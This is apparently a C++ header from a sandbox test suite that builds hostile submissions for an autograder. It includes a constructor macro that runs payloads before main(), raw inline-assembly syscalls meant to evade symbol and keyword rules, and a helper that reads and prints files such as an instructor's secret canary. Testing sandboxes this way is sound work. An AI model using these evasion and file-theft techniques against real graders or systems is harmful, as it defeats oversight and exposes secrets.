// What the hostile submissions share. It stands before each of them: a payload that runs before
// main(), system calls that no list of symbols shows, and words for the judge (dynamolab/attacks).
//
// {root} is the checkout, {canary} a file with the instructor's secret, {run} the folder of the
// run.
#pragma once

#include <fcntl.h>
#include <sys/syscall.h>

#include <cstring>

namespace attack {

// Written so that the rules, which look for the word, do not see it: what holds must be the
// sandbox.
#define ATTACK_JOIN(a, b) a##b
#define ATTACK_CODE ATTACK_JOIN(__as, m__) volatile

inline long call(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0,
                 long f = 0) {
#if defined(__x86_64__)
  long result = number;
  register long fourth ATTACK_JOIN(__as, m__)("r10") = d;
  register long fifth ATTACK_JOIN(__as, m__)("r8") = e;
  register long sixth ATTACK_JOIN(__as, m__)("r9") = f;
  ATTACK_CODE("syscall"
              : "+a"(result)
              : "D"(a), "S"(b), "d"(c), "r"(fourth), "r"(fifth), "r"(sixth)
              : "rcx", "r11", "memory");
  return result;
#elif defined(__aarch64__)
  register long x8 ATTACK_JOIN(__as, m__)("x8") = number;
  register long x0 ATTACK_JOIN(__as, m__)("x0") = a;
  register long x1 ATTACK_JOIN(__as, m__)("x1") = b;
  register long x2 ATTACK_JOIN(__as, m__)("x2") = c;
  register long x3 ATTACK_JOIN(__as, m__)("x3") = d;
  register long x4 ATTACK_JOIN(__as, m__)("x4") = e;
  register long x5 ATTACK_JOIN(__as, m__)("x5") = f;
  ATTACK_CODE("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
  return x0;
#endif
}

template <class T>
long at(const T* place) {
  return reinterpret_cast<long>(place);
}

inline void say(const char* text) {
  call(SYS_write, 2, at(text), static_cast<long>(std::strlen(text)));
}

/// What must never happen: the judge looks for the first word.
inline void loot(const char* what, const char* more = "") {
  say("LOOT: ");
  say(what);
  say(more);
  say("\n");
}

inline long open_file(const char* path, int flags = O_RDONLY) {
  return call(SYS_openat, AT_FDCWD, at(path), flags, 0644);
}

/// Reads a file, and shows what is in it.
inline void show(const char* path) {
  const long fd = open_file(path);
  if (fd < 0) return;
  static char text[4096];
  const long got = call(SYS_read, fd, at(text), sizeof(text) - 1);
  if (got <= 0) return;
  text[got] = 0;
  loot(path, text);
}

[[noreturn]] inline void end(int code) {
  while (true) call(SYS_exit_group, code);
}

}  // namespace attack

// ATTACK(fork_bomb) { … } runs before main(), whatever the program is for. Where many are in one
// program (ATTACK_TOGETHER), only the one whose name is the first argument.
#ifdef ATTACK_TOGETHER
#define ATTACK_WANTED(name, words) \
  (words[0] != nullptr && words[1] != nullptr && std::strcmp(words[1], #name) == 0)
#else
#define ATTACK_WANTED(name, words) (words[0] != nullptr)
#endif
#define ATTACK(name)                                                             \
  static void attack_##name(char** words, char** environment);                   \
  [[gnu::constructor]] static void begin_##name(int, char** words, char** env) { \
    if (!ATTACK_WANTED(name, words)) return;                                     \
    attack_##name(words, env);                                                   \
    attack::say("held\n");                                                       \
    attack::end(3);                                                              \
  }                                                                              \
  static void attack_##name([[maybe_unused]] char** words, [[maybe_unused]] char** environment)
